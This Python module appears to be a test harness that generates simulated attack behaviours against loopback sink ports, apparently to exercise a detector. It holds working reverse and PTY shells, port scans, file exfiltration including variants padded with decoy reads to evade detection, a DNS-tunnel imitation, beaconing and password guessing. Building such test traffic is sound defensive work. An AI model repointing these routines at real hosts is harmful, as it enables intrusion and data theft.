"""Attack behaviours over the network: to the run's own loopback, in its own namespace, and nowhere else."""

import base64
import glob
import os
import socket
import subprocess
import time

from files_behaviours import DOCS, pause_until
from sink import LOGIN, SHELL_PORT, TCP_PORT, UDP_PORT

HOME = "127.0.0.1"


def is_open(host, port):
    with socket.socket() as probe:
        probe.settimeout(0.2)
        return probe.connect_ex((host, port)) == 0


def reverse_shell(rng, end):
    with socket.create_connection((HOME, SHELL_PORT)) as link:
        subprocess.run(["/bin/sh", "-i"], stdin=link, stdout=link, stderr=link, check=False)


def pty_shell(rng, end):
    import pty

    link = socket.create_connection((HOME, SHELL_PORT))
    pid, terminal = pty.fork()
    if pid == 0:
        os.execv("/bin/bash", ["bash", "--norc"])
    while pause_until(end, 0.1):
        os.write(terminal, link.recv(4096) or b"exit\n")
        try:
            link.sendall(os.read(terminal, 65536))
        except OSError:
            return


def port_scan(rng, end):
    for port in range(1, 65536):
        is_open(HOME, port)
        if time.monotonic() >= end:
            return


def slow_scan(rng, end):
    while pause_until(end, rng.uniform(0.08, 0.16)):
        is_open(HOME, rng.randrange(1, 10_000))


def sweep(rng, end):
    for host in range(2, 250):
        is_open(f"127.0.0.{host}", 22)
        if time.monotonic() >= end:
            return


def exfiltrate(rng, end):
    with socket.create_connection((HOME, TCP_PORT)) as link:
        while time.monotonic() < end:
            for path in glob.glob(f"{DOCS}/*"):
                with open(path, "rb") as file:
                    link.sendall(file.read())


def slow_exfiltrate(rng, end):
    with socket.create_connection((HOME, TCP_PORT)) as link:
        for path in sorted(glob.glob(f"{DOCS}/*")):
            with open(path, "rb") as file:
                link.sendall(file.read(512))
            if not pause_until(end, rng.uniform(0.1, 0.2)):
                return


def padded_exfiltrate(rng, end):
    """Between any two parts it does what every server does: stats, small reads, clock."""
    with socket.create_connection((HOME, TCP_PORT)) as link:
        for path in sorted(glob.glob(f"{DOCS}/*")):
            for _ in range(20):
                with open(f"/tmp/www/{rng.randrange(12)}.html", "rb") as file:
                    os.fstat(file.fileno())
                    file.read()
            with open(path, "rb") as file:
                link.sendall(file.read(2048))
            if not pause_until(end, 0.02):
                return


def dns_tunnel(rng, end):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        while pause_until(end, 0.005):
            label = base64.b32encode(rng.randbytes(30)).rstrip(b"=")
            link.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + bytes([len(label)]) + label, (HOME, UDP_PORT))


def relay(rng, end):
    server = socket.create_server((HOME, 4444))
    with socket.create_connection((HOME, 4444)) as client, server.accept()[0] as inside:
        with socket.create_connection((HOME, TCP_PORT)) as outside:
            while pause_until(end, 0.002):
                client.sendall(rng.randbytes(1024))
                outside.sendall(inside.recv(65536))


def beacon(rng, end):
    while pause_until(end, rng.uniform(0.2, 0.35)):
        with socket.create_connection((HOME, TCP_PORT)) as link:
            link.sendall(b"ping")


def guess_passwords(rng, end):
    while time.monotonic() < end:
        with socket.create_connection((HOME, TCP_PORT)) as link:
            link.sendall(LOGIN + b"%d\n" % rng.randrange(10**9))
            link.recv(64)


def padded_scan(rng, end):
    while pause_until(end, 0.01):
        for _ in range(15):
            with open(f"/tmp/www/{rng.randrange(12)}.html", "rb") as file:
                file.read()
        is_open(HOME, rng.randrange(1, 60_000))


BEHAVIOURS = {
    "reverse-shell": reverse_shell,
    "pty-shell": pty_shell,
    "port-scan": port_scan,
    "port-scan-slow": slow_scan,
    "port-scan-padded": padded_scan,
    "host-sweep": sweep,
    "exfiltration": exfiltrate,
    "exfiltration-slow": slow_exfiltrate,
    "exfiltration-padded": padded_exfiltrate,
    "dns-tunnel": dns_tunnel,
    "relay": relay,
    "beacon": beacon,
    "password-guessing": guess_passwords,
}
